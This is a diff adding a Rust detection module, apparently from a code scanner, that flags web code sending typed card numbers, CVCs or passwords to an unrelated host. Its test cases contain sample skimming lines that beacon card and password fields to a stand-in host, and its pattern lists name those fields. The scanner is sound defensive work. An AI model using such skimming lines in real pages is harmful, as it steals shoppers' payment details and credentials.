@@ -1,0 +1,99 @@
+//! Code of a page or a shop that sends what its visitors type, their cards and passwords, to a machine that has no part in it.
+
+use super::leaks::elsewhere;
+use super::lists::{holds, parts};
+use super::source::{Written, is_comment};
+
+const FORMS: &str = "js|mjs|cjs|ts|tsx|jsx|mts|cts|vue|svelte|html|htm|php|phtml|liquid|twig|erb|ejs|hbs|astro|py|rb|go|java|kt|cs|dart|swift";
+
+/// What sends something and hears no answer, and what may hear one.
+const UNHEARD: &str =
+    "sendBeacon(|sendBeacon?.(|Image(|.src=|.src =|WebSocket(|EventSource(|backgroundImage|prefetch|importScripts(";
+const SENDS: &str = "fetch(|axios.post(|axios.get(|axios(|$.post(|$.get(|$.ajax(|.open(|requests.post(|requests.get(|httpx.post(|Http::post(|\
+    file_get_contents(|HTTParty.post(|Net::HTTP.post|http.Post(|http.PostForm(|ky.post(|got.post(|urlopen(";
+
+/// What nobody but whoever is paid, or whoever signs somebody in, needs; in small letters.
+const CARD: &str = "cvc|cvv|securitycode|security_code|cardnumber|card_number|card.number|card-number|ccnum|card[number]|cardpin|\
+    card.pan|.pan,|iban|password|passwd|passphrase|.otp|one-time-code|seedphrase|mnemonic|privatekey|pincode|creditcard";
+
+/// Whose business payments are: a number may go there.
+const PAID: &str = "stripe.|braintree|adyen|paypal|square|checkout.com|mollie|authorize.net|worldpay|cybersource|klarna|razorpay|spreedly|recurly|\
+    chargebee|paddle|basistheory|verygood|evervault|payment|psp|vault|tokeniz|firebase|auth0|okta|cognito|supabase|clerk|login|accounts.|identity|sso";
+
+/// How far what is sent stands behind the call, in bytes.
+const NEAR: usize = 400;
+
+/// Whether a text sends what is typed to another machine, as the one before it did not, or has a form do so.
+pub(super) fn are_put_in(written: &Written<'_>) -> bool {
+    written.is_form(FORMS)
+        && written.holds("http|//")
+        && !written.is_tried()
+        && (written.gains(sends) || written.before.is_some() && written.gains(posts_form))
+}
+
+fn sends(text: &str) -> bool {
+    let at = |list: &'static str| parts(list).flat_map(|call| text.match_indices(call).take(super::MAX_PLACES));
+    at(UNHEARD).any(|(at, call)| gives(text, at + call.len()))
+        || at(SENDS).any(|(at, call)| gives(text, at + call.len()) && is_unanswered(text, at))
+}
+
+/// Whether the arguments of a call name another machine and what somebody typed.
+fn gives(text: &str, from: usize) -> bool {
+    let behind = &text[from..text.floor_char_boundary(from + NEAR)];
+    let end = behind.find(";\n").unwrap_or(behind.len());
+    let given = &behind[..end];
+    let host = given.split_once("//").and_then(|(_, url)| elsewhere(url));
+    host.is_some_and(|host| !holds(&host, PAID)) && names_card(given)
+}
+
+/// Whether a text names what is on a card, or a password; the field of a form alone tells nothing.
+fn names_card(text: &str) -> bool {
+    let lower = text.to_ascii_lowercase();
+    holds(&lower, CARD)
+        && !holds(&lower, "last4|masked|passwordreset|password_reset|password-reset|haspassword|nopassword")
+}
+
+/// Whether nobody waits for what a call gives back, or cares.
+fn is_unanswered(text: &str, at: usize) -> bool {
+    let line = text[..at].rsplit('\n').next().unwrap_or_default();
+    let before = line.trim().trim_end_matches("window.").trim_end_matches("void ").trim_end();
+    let behind = &text[at..text.floor_char_boundary(at + NEAR)];
+    let statement = &behind[..behind.find(";\n").unwrap_or(behind.len())];
+    !is_comment(line)
+        && (holds(statement, "no-cors|keepalive")
+            || (before.is_empty() || before.ends_with(['{', ';', ':', '@'])) && !statement.contains(".then("))
+}
+
+/// Whether a form whose fields are a card's goes to another machine.
+fn posts_form(text: &str) -> bool {
+    const FORM: usize = 1500;
+    parts("action=\"|action='|.action = '|.action = \"|.action='|formaction=\"").any(|action| {
+        text.match_indices(action).take(super::MAX_PLACES).any(|(at, _)| {
+            let url = &text[at + action.len()..];
+            let around = &text[text.floor_char_boundary(at.saturating_sub(FORM))..text.floor_char_boundary(at + FORM)];
+            let away = url.strip_prefix("https://").or_else(|| url.strip_prefix("http://")).and_then(elsewhere);
+            away.is_some_and(|host| !holds(&host, PAID)) && names_card(around)
+        })
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_is_typed_and_sent_elsewhere_is_seen() {
+        for (text, seen) in [
+            ("navigator.sendBeacon('https://px.example/c', JSON.stringify({ n: v.number, c: v.cvc }));", true),
+            ("new Image().src = `https://px.example/p?c=${card.cvv}`;", true),
+            ("fetch('https://px.example/p', { method: 'POST', mode: 'no-cors', body: form.password.value });", true),
+            ("const r = await fetch('https://api.shop.example/pay', { body: JSON.stringify({ cvc }) });", false),
+            ("navigator.sendBeacon('https://px.example/c', JSON.stringify({ page: location.pathname }));", false),
+            ("navigator.sendBeacon('/metrics', JSON.stringify({ cvc: v.cvc }));", false),
+            ("fetch('https://api.stripe.com/v1/tokens', { body: new URLSearchParams({ 'card[cvc]': cvc }) });", false),
+        ] {
+            let written = Written::of(text, None, "/home/you/work/shop/src/pay.ts");
+            assert_eq!(are_put_in(&written), seen, "{text}");
+        }
+    }
+}
